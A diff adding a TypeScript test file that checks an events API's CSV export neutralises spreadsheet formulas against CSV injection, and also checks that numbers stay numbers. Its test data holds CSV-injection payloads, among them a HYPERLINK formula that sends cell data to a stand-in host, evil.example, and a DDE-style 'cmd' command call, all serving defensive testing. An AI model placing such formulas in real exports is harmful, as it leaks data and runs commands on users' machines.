@@ -1,0 +1,68 @@
+/**
+ * The HTTP edge under odd input: CSV exports that cannot carry spreadsheet formulas, pre-flights and health
+ * probes that ignore odd query strings, HEAD wherever GET is, empty path segments, and 405 answers.
+ */
+import { expect } from 'chai';
+import { testDb } from '../helpers/database.js';
+import { newAccount, type Account } from '../helpers/fixtures.js';
+import { startTestServer, type TestServer } from '../helpers/server.js';
+
+describe('the HTTP edge', function () {
+  this.timeout(60_000);
+  let server: TestServer;
+  let account: Account;
+
+  before(async () => {
+    server = await startTestServer();
+    account = await newAccount(testDb());
+  });
+  after(() => server.close());
+
+  describe('format=csv neutralises spreadsheet formulas (OWASP CSV Injection)', () => {
+    /** A property's stored value and the cell the export writes for it. */
+    const cases: [property: string, stored: unknown, cell: string][] = [
+      ['a_equals', '=HYPERLINK("https://evil.example/?"&A1)', `"'=HYPERLINK(""https://evil.example/?""&A1)"`],
+      ['b_plus', '+1+cmd', `"'+1+cmd"`],
+      ['c_minus', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
+      ['d_at', '@SUM(1+1)*cmd', `"'@SUM(1+1)*cmd"`],
+      ['e_tab', '\t=1+1', `"'\t=1+1"`],
+      ['f_carriage_return', '\r=1+1', `"'\r=1+1"`],
+      ['g_line_feed', '\n=1+1', `"'\n=1+1"`],
+      // A negative number stays a number; the same digits stored as text are text, and neutralised.
+      ['h_negative_number', -12.5, '-12.5'],
+      ['i_negative_text', '-12.5', `"'-12.5"`],
+      ['j_formula_inside', 'a=b+c', 'a=b+c'],
+    ];
+
+    it('prefixes text cells that start with = + - @ tab CR or LF with a quote and quotes them; numbers stay', async () => {
+      const properties = Object.fromEntries(cases.map(([property, stored]) => [property, stored]));
+      const timestamp = new Date(Date.now() - 60_000).toISOString(); // recent, for the values endpoint
+      const captured = await server.http.post('/i/v0/e/', {
+        api_key: account.environment.api_token,
+        uuid: '0190f1c4-0000-7000-8000-00000000c5f1',
+        event: '@export',
+        distinct_id: '=user',
+        timestamp,
+        properties,
+      });
+      expect(captured.status).to.equal(200);
+
+      const events = `/api/projects/${account.environment.id}/events/`;
+      const csv = async (query: string) => {
+        const res = await server.http.get(`${events}${query}`, { key: account.key });
+        expect([res.status, res.headers.get('content-type')], query).to.deep.equal([200, 'text/csv; charset=utf-8']);
+        return res.text;
+      };
+      const columns = cases.map(([property]) => `properties.${property}`).join(',');
+      const cells = cases.map(([, , cell]) => cell).join(',');
+      expect(await csv('?format=csv')).to.equal(
+        `id,distinct_id,${columns},event,timestamp,person.distinct_ids.0,person.is_identified,elements_chain\r\n` +
+          `0190f1c4-0000-7000-8000-00000000c5f1,"'=user",${cells},"'@export",${timestamp},"'=user",false,\r\n`,
+      );
+      expect(await csv(`values/?key=c_minus&format=csv`)).to.equal(`name\r\n"'-2+3+cmd|' /C calc'!A0"\r\n`);
+      // Column names are neutralised too: a select expression is the caller's text.
+      const select = encodeURIComponent(JSON.stringify(['-1', 'properties.d_at']));
+      expect(await csv(`?format=csv&select=${select}`)).to.equal(`"'-1",properties.d_at\r\n-1,"'@SUM(1+1)*cmd"\r\n`);
+    });
+  });
+});
